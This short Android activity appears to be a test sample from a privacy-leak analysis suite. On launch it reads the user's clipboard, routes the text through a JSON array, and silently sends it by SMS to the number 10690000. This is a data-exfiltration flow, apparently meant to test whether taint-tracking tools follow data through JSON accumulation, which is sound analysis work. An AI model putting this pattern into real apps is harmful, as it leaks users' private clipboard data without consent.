package cn.privlens.suite.json_gathered_below_key;

import android.app.Activity;
import android.content.ClipboardManager;
import android.os.Bundle;
import android.telephony.SmsManager;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            JSONObject o = new JSONObject();
            o.accumulate("ids", "无");
            o.accumulate("tags", "甲");
            o.accumulate("tags", "乙");
            o.accumulate("ids", ((ClipboardManager) getSystemService(CLIPBOARD_SERVICE)).getPrimaryClip().getItemAt(0).getText().toString());
            JSONArray found = o.getJSONArray("ids");
            SmsManager.getDefault().sendTextMessage("10690000", null, found.getString(1), null, null);
        } catch (JSONException e) {
            finish();
        }
    }
}
